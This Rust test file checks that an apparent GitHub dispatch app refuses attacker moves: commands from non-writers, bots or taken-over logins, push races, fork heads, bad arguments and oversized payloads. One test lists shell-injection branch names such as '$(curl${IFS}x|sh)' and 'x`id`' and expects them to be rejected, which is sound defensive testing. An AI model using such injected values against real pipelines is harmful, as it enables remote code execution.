//! What attackers try. Each test is named for the move.

use dispatch_core::event::{CommandArgument, Head, PullRequest, PullRequestAction};
use dispatch_core::name::{RepositoryId, UserId};
use dispatch_core::ports::pull_requests::{PermissionAnswer, PermissionLevel};

use super::setup::*;

#[test]
fn a_stranger_gives_a_command() {
    let mut setup = Setup::command("/test-deploy");
    setup.given().commenter.login = login("bob");
    setup.given().commenter.id = BOB;
    assert_eq!(setup.outcome(), "commenter_not_permitted", "who may only read");
    let skipped = setup.plan().skipped.unwrap();
    assert!(skipped.answer, "he is told");
    assert!(skipped.message.contains("people who may write"), "{}", skipped.message);

    setup.permissions.remove(&login("bob"));
    assert_eq!(setup.outcome(), "commenter_not_permitted", "whom GitHub does not know");
}

#[test]
fn a_login_that_was_taken_over_gives_a_command() {
    let mut setup = Setup::command("/test-deploy");
    let taken_over = PermissionAnswer { user: UserId(999), level: PermissionLevel::Admin };
    setup.permissions.insert(login("alice"), taken_over);
    assert_eq!(setup.outcome(), "commenter_not_permitted", "the permission is another account's");
}

#[test]
fn a_bot_gives_a_command_and_is_never_answered() {
    let mut setup = Setup::command("/test-deploy");
    setup.given().commenter.person = false;
    assert_eq!(setup.outcome(), "commenter_not_permitted");
    assert!(!setup.plan().skipped.unwrap().answer);
    assert_eq!(setup.asked.len(), 0, "nobody is asked about a bot");

    setup.source = "outbound: 7\n".to_owned();
    assert_eq!(setup.outcome(), "source_policy_invalid");
    assert!(!setup.plan().skipped.unwrap().answer);
    assert_eq!(setup.asked.len(), 0, "nor when the policy file has errors");
    setup.given().commenter.person = true;
    assert!(setup.plan().skipped.unwrap().answer, "a person who may write is told of them");
}

#[test]
fn a_command_then_a_push() {
    let mut setup = Setup::command("/test-deploy");
    let mut pushed = setup.now.clone().unwrap();
    pushed.head_sha = OTHER.parse().unwrap();
    pushed.updated_at = time("13:00:01");
    let push = PullRequest { action: PullRequestAction::Synchronize, now: pushed.clone(), sweep: None };

    setup.now = Some(pushed.clone());
    assert_eq!(setup.outcome(), "commit_not_confirmed", "GitHub shows it, and the webhook has not come");
    setup.record.see(&push, time("13:00:02"));
    assert_eq!(setup.outcome(), "commit_not_confirmed", "the webhook came");
    pushed.updated_at = time("13:00:00");
    setup.record.heads.clear();
    setup.record.see(&PullRequest { now: pushed.clone(), ..push.clone() }, time("13:00:02"));
    assert_eq!(setup.outcome(), "commit_not_confirmed", "within the same second");
    pushed.updated_at = time("12:59:59");
    setup.record.heads.clear();
    setup.record.see(&PullRequest { now: pushed, ..push }, time("13:00:02"));
    assert_eq!(setup.outcome(), "allowed", "the push came before the command");
}

#[test]
fn a_command_on_a_fork_whose_head_its_owner_can_move() {
    let mut setup = Setup::command("/test-deploy");
    setup.state().head = Head::Fork(RepositoryId(99));
    assert_eq!(setup.outcome(), "source_from_fork", "no rule accepts forks");
    setup.source = setup.source.replace("command: /test-deploy", "command: /test-deploy, forks: true");
    setup.target = setup.target.replace("command: /test-deploy", "command: /test-deploy, forks: true");
    assert_eq!(setup.outcome(), "commit_not_confirmed", "only with its full commit");
    setup.given().argument = CommandArgument::Commit(HEAD.parse().unwrap());
    assert_eq!(setup.outcome(), "allowed");
}

#[test]
fn a_command_with_something_behind_it() {
    let mut setup = Setup::command("/test-deploy");
    setup.given().argument = CommandArgument::Other;
    assert_eq!(setup.outcome(), "argument_not_accepted");
}

#[test]
fn a_command_with_another_word_behind_it_than_its_rule_names() {
    let mut setup = Setup::command("/test-deploy");
    setup.given().argument = CommandArgument::Word("eu".parse().unwrap());
    assert_eq!(setup.outcome(), "argument_not_accepted", "the rule names none");
    let named = "command: /test-deploy, argument: { one_of: [eu, us] } }\n    targets:\n      - repository";
    setup.source = setup.source.replacen("command: /test-deploy }\n    targets:\n      - repository", named, 1);
    assert_eq!(setup.outcome(), "allowed");
    for (argument, outcome) in [
        (CommandArgument::Word("asia".parse().unwrap()), "argument_not_accepted"),
        (CommandArgument::None, "argument_not_accepted"),
        (CommandArgument::Commit(HEAD.parse().unwrap()), "argument_not_accepted"),
        (CommandArgument::Other, "argument_not_accepted"),
        (CommandArgument::WordAndCommit("us".parse().unwrap(), HEAD.parse().unwrap()), "allowed"),
        (CommandArgument::WordAndCommit("us".parse().unwrap(), OTHER.parse().unwrap()), "commit_not_confirmed"),
    ] {
        setup.given().argument = argument.clone();
        assert_eq!(setup.outcome(), outcome, "{argument:?}");
    }
    // What is sent of it needs the target's consent, as every value does.
    setup.given().argument = CommandArgument::Word("eu".parse().unwrap());
    setup.source = setup.source.replacen("sender: ", "region: \"{{ command.argument }}\"\n          sender: ", 1);
    assert_eq!(setup.outcome(), "inputs_not_accepted");
}

#[test]
fn a_command_that_wants_more_than_write_without_its_commit() {
    for (permission, level) in [("admin", PermissionLevel::Admin), ("acme/deployers", PermissionLevel::Write)] {
        let mut setup = Setup::command("/test-deploy");
        let rule = format!("command: /test-deploy, permission: {permission} }}\n    targets:\n      - repository");
        setup.source = setup.source.replacen("command: /test-deploy }\n    targets:\n      - repository", &rule, 1);
        setup.given().argument = CommandArgument::Commit(HEAD.parse().unwrap());
        assert_eq!(setup.outcome(), "commenter_not_permitted", "{permission}: write alone is not enough");
        setup.permissions.insert(login("alice"), PermissionAnswer { user: ALICE, level });
        setup.members.push(("acme/deployers".parse().unwrap(), login("alice")));
        assert_eq!(setup.outcome(), "allowed", "{permission}");
        setup.given().argument = CommandArgument::None;
        assert_eq!(setup.outcome(), "commit_not_confirmed", "{permission}");
    }
}

#[test]
fn the_author_of_a_pull_request_gives_a_command_that_the_target_leaves_to_writers() {
    let mut setup = Setup::command("/test-deploy");
    setup.given().commenter.login = login("bob");
    setup.given().commenter.id = BOB;
    setup.source = setup.source.replace("command: /test-deploy }", "command: /test-deploy, permission: author }");
    assert_eq!(setup.outcome(), "inbound_not_authorized");
    setup.target = setup.target.replace("command: /test-deploy }", "command: /test-deploy, permission: author }");
    assert_eq!(setup.outcome(), "allowed");
}

#[test]
fn a_branch_with_shell_and_template_characters() {
    for name in ["$(curl${IFS}x|sh)", "{{pr.number}}", "a;b", "-rf", "x`id`", "a'b"] {
        let mut setup = Setup::command("/test-deploy");
        setup.state().head_branch = name.parse().unwrap();
        assert_eq!(setup.outcome(), "value_not_accepted", "{name}");
        // Names-only consent does not let it through either.
        setup.target = setup.target.replace("branch: { pattern: branch }", "branch: {}");
        assert_eq!(setup.outcome(), "value_not_accepted", "{name}");
    }
    let mut setup = Setup::command("/test-deploy");
    setup.state().head_branch = "x".repeat(255).parse().unwrap();
    assert_eq!(setup.outcome(), "allowed", "long names are names");
}

#[test]
fn a_wrong_command_makes_the_app_write_comments() {
    let mut setup = Setup::command("/test-deplyo");
    assert_eq!(setup.outcome(), "unknown_command");
    let skipped = setup.plan().skipped.unwrap();
    assert!(skipped.answer && skipped.message.ends_with("did you mean `/test-deploy`?"), "{}", skipped.message);

    setup.given().commenter.login = login("bob");
    setup.given().commenter.id = BOB;
    assert!(!setup.plan().skipped.unwrap().answer, "only who may write is told");
    let mut setup = Setup::command("/lgtm");
    assert!(!setup.plan().skipped.unwrap().answer, "another bot's command");
    assert_eq!(setup.asked.len(), 0, "and GitHub is asked nothing");
}

#[test]
fn a_command_on_a_pull_request_that_is_closed_or_not_shown() {
    let mut setup = Setup::command("/test-deploy");
    setup.state().open = false;
    assert_eq!(setup.outcome(), "pull_request_not_open");
    setup.now = None;
    assert_eq!(setup.outcome(), "pull_request_not_open");
}

#[test]
fn values_beyond_the_limits_of_github() {
    let rules = |lengths: &[usize]| {
        let texts = lengths.iter().enumerate().map(|(n, length)| format!("p{n}: \"{}\"", "x".repeat(*length)));
        let names: Vec<_> = (0..lengths.len()).map(|n| format!("p{n}")).collect();
        let source = format!(
            "outbound:\n  - source: {{ pull_request: [opened] }}\n    targets:\n      - repository: cms_infrastructure\n        \
             event: e\n        payload: {{ {} }}\n",
            texts.collect::<Vec<_>>().join(", ")
        );
        let target = format!(
            "inbound:\n  - source: {{ repository: cms, pull_request: [opened] }}\n    targets:\n      - event: e\n        \
             accept_payload: [{}]\n",
            names.join(", ")
        );
        (source, target)
    };
    // Ten properties take 81 bytes around their values.
    let of_bytes = |bytes: usize| [vec![6_000; 9], vec![bytes - 81 - 9 * 6_000]].concat();
    for (lengths, code, told) in [
        (vec![1_024; 10], "allowed", ""),
        (vec![1; 11], "source_policy_invalid", "11 properties, and GitHub takes at most 10"),
        (vec![1_025], "inputs_template_error", "1025 characters"),
        // Each value alone is too long as well, which only a plan tells.
        (of_bytes(65_535), "inputs_template_error", "6000 characters"),
        (of_bytes(65_536), "source_policy_invalid", "65536 bytes of payload, and GitHub takes at most 65535"),
    ] {
        let mut setup = Setup::pull_request(PullRequestAction::Opened);
        (setup.source, setup.target) = rules(&lengths);
        let plan = setup.plan();
        let denied = plan.decisions.first().and_then(|decision| decision.denied()).map(|denied| &denied.message);
        let message = plan.skipped.as_ref().map(|skipped| &skipped.message).or(denied).cloned().unwrap_or_default();
        assert_eq!(setup.outcome(), code, "{lengths:?}: {message}");
        assert!(message.contains(told), "{lengths:?}: {message}");
    }
}

#[test]
fn somebody_who_may_not_write_wants_a_check_again() {
    let mut original = Setup::pull_request(PullRequestAction::Closed);
    original.holds("pr-7", "dev");
    let mut again = Setup::again(&original, "acme/cms_infrastructure", "pr-closed");
    again.holds("pr-7", "dev");
    assert_eq!(again.outcome(), "allowed");
    again.permissions.insert(login("alice"), PermissionAnswer { user: ALICE, level: PermissionLevel::Read });
    assert_eq!(again.outcome(), "commenter_not_permitted");
}

#[test]
fn somebody_who_may_write_wants_a_command_of_an_admin_again() {
    let mut original = Setup::command("/test-deploy");
    original.given().argument = CommandArgument::Commit(HEAD.parse().unwrap());
    let mut again = Setup::again(&original, "acme/cms_infrastructure", "deploy-ephemeral");
    assert_eq!(again.outcome(), "allowed");
    again.source = again.source.replace("command: /test-deploy }", "command: /test-deploy, permission: admin }");
    assert_eq!(again.outcome(), "commenter_not_permitted", "the rule counts as it is now, for who asks now");
}
